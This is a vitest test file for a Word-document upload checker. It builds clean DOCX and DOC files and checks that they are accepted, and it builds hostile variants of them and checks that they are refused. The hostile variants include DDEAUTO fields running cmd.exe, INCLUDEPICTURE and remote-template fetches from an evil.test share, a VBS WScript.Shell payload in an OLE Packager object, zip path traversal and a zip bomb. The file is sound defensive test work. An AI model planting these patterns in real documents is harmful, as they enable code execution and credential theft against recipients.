import { describe, expect, it } from 'vitest';
import * as hostile from '@verdalia/test-files/hostile-files';
import { makeRealDocuments } from '@verdalia/test-files/real-documents';
import {
  docxWithHeader,
  docxWithMainDocumentAt,
  headerPart,
} from '@verdalia/test-files/office-packages';
import { fieldParagraph } from '@verdalia/test-files/word-fields';
import { file, followed, judgeEach, type Case } from './support/verdict.js';

// Word documents as visitors' programs write them (pandoc's .docx, LibreOffice's .doc), and the
// hostile variants an attacker makes from one: each judged by checkFile as the API asks for it.
const real = await makeRealDocuments();

const settingsRels = 'word/_rels/settings.xml.rels';
const documentRels = 'word/_rels/document.xml.rels';
/** Text of the page the real documents are made from, where a .doc field is written over it. */
const wordAnchor = 'Bonos verdes y finanzas climáticas para cooperativas de la región';

/** What pandoc's document relationships hold, plus the given relationship. */
async function documentRelsWith(extra: string): Promise<hostile.ZipEntry> {
  const current = (await hostile.readZip(real.docx)).find((entry) => entry.name === documentRels);
  const text = current?.data?.toString('utf8') ?? '';
  if (!text.includes('</Relationships>')) throw new Error('pandoc wrote no document relationships');
  return {
    name: documentRels,
    data: Buffer.from(text.replace('</Relationships>', `${extra}</Relationships>`)),
  };
}
/** pandoc's DOCX with these parts added or replaced. */
const docxWith = (parts: () => hostile.ZipEntry[] | Promise<hostile.ZipEntry[]>) => async () =>
  hostile.docxWith(real.docx, await parts());
/** pandoc's part `name` with `xml` inserted before `tag` (its section properties, its closing tag). */
async function partWith(name: string, tag: string, xml: string): Promise<hostile.ZipEntry> {
  const current = (await hostile.readZip(real.docx)).find((entry) => entry.name === name);
  const text = current?.data?.toString('utf8') ?? '';
  if (!text.includes(tag)) throw new Error(`pandoc wrote no ${tag} in ${name}`);
  return { name, data: Buffer.from(text.replace(tag, `${xml}${tag}`)) };
}
/** pandoc's DOCX with a paragraph holding a field of these instructions in its body. */
const docxWithField =
  (...instructions: string[]) =>
  async () =>
    hostile.docxWith(real.docx, [
      await partWith('word/document.xml', '<w:sectPr', fieldParagraph(...instructions)),
    ]);
/** The settings part naming the document's template, as Word writes it. */
const templateAt = (target: string): hostile.ZipEntry[] => [
  {
    name: settingsRels,
    data: hostile.rels(hostile.relationship('rId1', 'attachedTemplate', target, true)),
  },
];

/** A field fetching a picture from a network share, and one running a program. */
const sharePicture = fieldParagraph(String.raw`INCLUDEPICTURE "\\evil.test\share\logo.png" \d `);
const ddeAuto = fieldParagraph(String.raw`DDEAUTO c:\windows\system32\cmd.exe "/k calc.exe" `);

const accepted: Case[] = [
  file('a DOCX with a header holding a page number field', 'propuesta.docx', () =>
    docxWithHeader(real.docx, headerPart(fieldParagraph('PAGE')), {
      contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml',
    }),
  ),
  file(
    'a DOCX with links to the web, to mail and to a bookmark (HYPERLINK fields)',
    'propuesta.docx',
    () =>
      docxWith(async () => [
        await partWith(
          'word/document.xml',
          '<w:sectPr',
          [
            'HYPERLINK "https://verdalia.example/" ',
            'HYPERLINK "mailto:contacto@verdalia.example" ',
            String.raw`HYPERLINK \l "_Toc123" \o "Índice" `,
          ]
            .map((instructions) => fieldParagraph(instructions))
            .join(''),
        ),
      ])(),
  ),
  file(
    'a DOCX written by pandoc, with a web link and a table of contents (a TOC field)',
    'propuesta.docx',
    () => real.docx,
  ),
  file('a Word 97 DOC written by LibreOffice', 'propuesta.doc', () => real.doc),
  file(
    'a DOCX made from a template on the author’s own disk',
    'informe.docx',
    docxWith(() =>
      templateAt('file:///C:/Users/ana/AppData/Roaming/Microsoft/Templates/Informe.dotx'),
    ),
  ),
];

const refused: Case[] = [
  file(
    'a DOCX whose relationships are UTF-16 without a byte order mark, linking a remote picture',
    'factura.docx',
    docxWith(async () => {
      const entry = await documentRelsWith(
        hostile.relationship('rId93', 'image', 'https://evil.test/logo.png', true),
      );
      return [{ name: entry.name, data: hostile.utf16WithoutMark(entry.data ?? Buffer.alloc(0)) }];
    }),
  ),
  file(
    'a DOCX whose document is UTF-16 without a byte order mark, with an INCLUDEPICTURE field',
    'factura.docx',
    docxWith(async () => {
      const entry = await partWith(
        'word/document.xml',
        '<w:sectPr',
        fieldParagraph(String.raw`INCLUDEPICTURE "https://evil.test/logo.png" \d `),
      );
      return [{ name: entry.name, data: hostile.utf16WithoutMark(entry.data ?? Buffer.alloc(0)) }];
    }),
  ),
  file('a DOC with a DDEAUTO field that runs cmd.exe', 'factura.doc', () =>
    hostile.docWithField(
      real.doc,
      wordAnchor,
      String.raw`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"`,
    ),
  ),
  file('a DOC with an INCLUDETEXT field fetching a web page', 'factura.doc', () =>
    hostile.docWithField(real.doc, wordAnchor, 'INCLUDETEXT "http://evil.test/t.docx"'),
  ),
  file('a DOC with a VBA macro project (Macros storage, AutoOpen)', 'factura.doc', () =>
    hostile.docWith(real.doc, {
      '/Macros/VBA/ThisDocument': Buffer.from(
        'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()\nEnd Sub\n',
      ),
      '/Macros/VBA/dir': Buffer.alloc(512, 1),
      '/Macros/PROJECT': Buffer.from(
        'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
      ),
    }),
  ),
  file('a DOC with an embedded OLE object (ObjectPool)', 'factura.doc', () =>
    hostile.docWith(real.doc, {
      '/ObjectPool/_1234567890/\u0001Ole10Native': Buffer.concat([
        Buffer.alloc(4),
        hostile.executable(),
      ]),
      '/ObjectPool/_1234567890/\u0001CompObj': Buffer.alloc(64, 2),
    }),
  ),
  file(
    'a DOC with an executable appended',
    'factura.doc',
    followed(() => real.doc, hostile.executable),
  ),
  file(
    'a DOC with an Office package appended, an executable inside it (Word never reads it; an archiver does)',
    'factura.doc',
    followed(
      () => real.doc,
      () =>
        hostile.writeZip([
          { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
          { name: 'theme/theme/factura.exe', data: hostile.executable() },
        ]),
    ),
  ),
  file('a DOC whose directory entries form a cycle', 'factura.doc', () =>
    hostile.docWithDirectoryCycle(real.doc),
  ),
  file('an RTF saved as .doc (AbiWord’s “Word 97” export)', 'carta.doc', () => real.abiwordDoc),
  file(
    'a Word 97 DOC named .docx (a compound file, but no encrypted Word document)',
    'carta.docx',
    () => real.doc,
  ),
  file(
    'a DOCX with vbaProject.bin',
    'factura.docx',
    docxWith(() => [{ name: 'word/vbaProject.bin', data: Buffer.alloc(2048, 7) }]),
  ),
  file(
    'a DOCX with a remote attachedTemplate (the remote-template pattern)',
    'factura.docx',
    docxWith(() => templateAt('https://evil.test/plantilla.dotm')),
  ),
  file(
    'a DOCX with a remote template behind an entity-encoded TargetMode',
    'factura.docx',
    docxWith(() => [
      {
        name: settingsRels,
        data: hostile.rels(
          `<Relationship TargetMode='&#69;xternal' Target='\\\\evil.test\\share\\t.dotm' Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>`,
        ),
      },
    ]),
  ),
  file(
    'a DOCX whose remote template’s address holds a > (allowed inside a quoted value)',
    'factura.docx',
    docxWith(() => templateAt('https://evil.test/plantilla.dotm#>')),
  ),
  file(
    'a DOCX with a DDEAUTO field (its instructions split across runs) that runs a program on opening',
    'factura.docx',
    docxWithField(' DDE', String.raw`AUTO c:\windows\system32\cmd.exe "/k calc.exe" `),
  ),
  file(
    'a DOCX with an INCLUDEPICTURE field fetching from a network share (a credential leak)',
    'factura.docx',
    docxWithField(String.raw`INCLUDEPICTURE "\\evil.test\share\logo.png" \d `),
  ),
  file(
    'a DOCX with an INCLUDETEXT field fetching a web page, in its footnotes',
    'factura.docx',
    docxWith(async () => [
      await partWith(
        'word/footnotes.xml',
        '</w:footnotes>',
        `<w:footnote w:id="9">${fieldParagraph('INCLUDETEXT "https://evil.test/t.docx" ')}</w:footnote>`,
      ),
    ]),
  ),
  ...(
    [
      ['an external oleObject relationship', 'oleObject', 'https://evil.test/o.bin'],
      ['an external frame', 'frame', 'https://evil.test/f.html'],
    ] as const
  ).map(([what, type, target], index) =>
    file(
      `a DOCX with ${what}`,
      'factura.docx',
      docxWith(async () => [
        await documentRelsWith(hostile.relationship(`rId9${index}`, type, target, true)),
      ]),
    ),
  ),
  file(
    'a DOCX with an embedded OLE object',
    'factura.docx',
    docxWith(async () => [
      { name: 'word/embeddings/oleObject1.bin', data: hostile.executable() },
      await documentRelsWith(
        hostile.relationship('rId92', 'oleObject', 'embeddings/oleObject1.bin'),
      ),
    ]),
  ),
  file(
    'a DOCX with a ../ entry name',
    'factura.docx',
    docxWith(() => [{ name: '../../evil.bat', data: Buffer.from('calc\r\n') }]),
  ),
  file(
    'a DOCX with an absolute entry name',
    'factura.docx',
    docxWith(() => [{ name: '/etc/cron.d/evil', data: Buffer.from('x') }]),
  ),
  file(
    'a DOCX zip bomb (1 GiB of zeros in one part)',
    'factura.docx',
    docxWith(() => [hostile.gibibyteOfZeros('word/media/image9.png')]),
  ),
  // Where our reading differed from the reader's: each was accepted before.
  file(
    'a DOCX whose DDEAUTO field hides behind an x:instr of an ignorable namespace',
    'factura.docx',
    docxWith(async () => [
      await partWith(
        'word/document.xml',
        '<w:sectPr',
        '<w:p><w:fldSimple xmlns:x="urn:example:x" w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc.exe&quot;" x:instr="PAGE"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>',
      ),
    ]),
  ),
  file(
    'a DOCX whose remote template is an external relationship typed as a link',
    'factura.docx',
    docxWith(async () => [
      await partWith(
        'word/settings.xml',
        '</w:settings>',
        `<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/>`,
      ),
      {
        name: settingsRels,
        data: hostile.rels(
          hostile.relationship('rId1', 'hyperlink', '\\\\evil.test\\share\\t.dotm', true),
        ),
      },
    ]),
  ),
  file(
    'a DOCX with a DATABASE field reading a share',
    'factura.docx',
    docxWithField(
      String.raw`DATABASE \d "\\\\evil.test\\datos\\clientes.mdb" \s "SELECT * FROM t" `,
    ),
  ),
  file(
    'a DOCX with a task-pane add-in from a file-share catalog',
    'factura.docx',
    docxWith(() => [
      {
        name: 'word/webextensions/webextension1.xml',
        data: Buffer.from(
          '<?xml version="1.0" encoding="UTF-8"?><we:webextension xmlns:we="http://schemas.microsoft.com/office/webextensions/webextension/2010/11" id="{52811C31-4593-43B8-A697-EB873422D156}"><we:reference id="{8C9E7C4D-6D59-4A0E-A6A8-3D5E1E2B7F10}" version="1.0.0.0" store="\\\\evil.test\\catalog" storeType="FileSystem"/></we:webextension>',
        ),
      },
    ]),
  ),
  file('a DOC with Equation Editor 2.0 labelled a Microsoft Graph chart', 'factura.doc', () =>
    hostile.docWith(
      real.doc,
      {
        '/ObjectPool/_1234/\u0001CompObj': hostile.compObj(
          'Microsoft Graph Chart',
          'MSGraph.Chart.8',
        ),
        '/ObjectPool/_1234/Equation Native': Buffer.alloc(256, 1),
      },
      { '/ObjectPool/_1234/': '0017020000000000c000000000000046' },
    ),
  ),
  file('a DOC with a Packager object of the class 0003000D labelled a picture', 'factura.doc', () =>
    hostile.docWith(
      real.doc,
      {
        '/ObjectPool/_1234/\u0001CompObj': hostile.compObj('Bitmap Image', 'Paint.Picture'),
        '/ObjectPool/_1234/\u0001Ole10Native': Buffer.from(
          '\u0000\u0000\u0000\u0000factura.vbs\u0000CreateObject("WScript.Shell").Run "calc"',
          'latin1',
        ),
      },
      { '/ObjectPool/_1234/': '0d00030000000000c000000000000046' },
    ),
  ),
  file('a DOC with an Equation Editor storage without a CompObj stream', 'factura.doc', () =>
    hostile.docWith(
      real.doc,
      { '/ObjectPool/_1234/Equation Native': Buffer.alloc(256, 1) },
      { '/ObjectPool/_1234/': '02ce020000000000c000000000000046' },
    ),
  ),
  file('a DOC whose associated template is on a network share', 'factura.doc', () =>
    hostile.docWithAssociatedTemplate(real.doc, '\\\\evil.test\\share\\x.dot'),
  ),
  file(
    'a DOCX embedding Equation Editor 2.0 labelled a Microsoft Graph chart',
    'factura.docx',
    docxWith(() => [
      {
        name: 'word/embeddings/oleObject1.bin',
        data: hostile.oleObjectFile('0017020000000000c000000000000046', {
          '\u0001CompObj': hostile.compObj('Microsoft Graph Chart', 'MSGraph.Chart.8'),
          'Equation Native': Buffer.alloc(256, 1),
        }),
      },
    ]),
  ),
  // Parts reached as Word reaches them, through relationships, whatever they are called.
  file(
    'a DOCX whose header, declared image/png, fetches a picture from a share',
    'factura.docx',
    () => docxWithHeader(real.docx, headerPart(sharePicture), { contentType: 'image/png' }),
    /INCLUDEPICTURE/,
  ),
  file(
    'a DOCX whose header, named header1.bin, holds a DDEAUTO field',
    'factura.docx',
    () => docxWithHeader(real.docx, headerPart(ddeAuto), { name: 'word/header1.bin' }),
    /DDEAUTO/,
  ),
  file(
    'a DOCX whose main document is named word/document.rels',
    'factura.docx',
    () => docxWithMainDocumentAt(real.docx, 'word/document.rels', sharePicture),
    /INCLUDEPICTURE/,
  ),
  file(
    'a DOCX whose header a Unicode Path extra field renames to a picture (yauzl and 7-Zip take that name)',
    'factura.docx',
    () => docxWithHeader(real.docx, headerPart(ddeAuto), { unicodePath: 'word/media/image1.png' }),
    /also named/,
  ),
  file(
    'a DOCX whose header’s local header names another part than its directory',
    'factura.docx',
    () => docxWithHeader(real.docx, headerPart(ddeAuto), { localName: 'word/media/image1.png' }),
    /also named/,
  ),
  file(
    'a DOCX with an RD field reading a document from a share',
    'factura.docx',
    docxWithField(String.raw`RD "\\\\evil.test\\share\\anexo.docx" \f `),
    /RD field/,
  ),
  file(
    'a DOC with an RD field reading a document from a share',
    'factura.doc',
    () => hostile.docWithField(real.doc, wordAnchor, String.raw`RD "\\\\evil.test\\s\\a.doc"`),
    /RD field/,
  ),
  ...[
    'search-ms:query=factura&crumb=location:%5C%5Cevil.test%5Cshare',
    'ms-word:ofe|u|https://evil.test/plantilla.docx',
    'file:///C:/Users/Public/factura.hta',
  ].flatMap((target, index) => [
    file(
      `a DOCX with a link to ${target}`,
      'factura.docx',
      docxWith(async () => [
        await documentRelsWith(
          hostile.relationship(`rId8${index}`, 'hyperlink', target.replaceAll('&', '&amp;'), true),
        ),
      ]),
      /link that/,
    ),
    file(
      `a DOCX with a HYPERLINK field to ${target}`,
      'factura.docx',
      docxWithField(`HYPERLINK "${target.replaceAll('&', '&amp;')}" `),
      /HYPERLINK/,
    ),
  ]),
  file(
    'a DOC with a HYPERLINK field to search-ms:',
    'factura.doc',
    () => hostile.docWithField(real.doc, wordAnchor, 'HYPERLINK "search-ms:query=x"'),
    /HYPERLINK/,
  ),
];

describe('Word files: ordinary ones from real programs pass, hostile variants of them are refused', () => {
  judgeEach(accepted, refused);

  it('keeps the ordinary web link of the pandoc DOCX as an external relationship', async () => {
    // So that "links stay allowed" above is tested with one, not vacuously.
    const entries = await hostile.readZip(real.docx);
    const links = entries.find((entry) => entry.name === documentRels)?.data?.toString('utf8');
    const link = /<Relationship [^>]*verdalia\.example\/servicios[^>]*>/.exec(links ?? '')?.[0];
    expect(link).toContain('relationships/hyperlink"');
    expect(link).toContain('TargetMode="External"');
  });
});
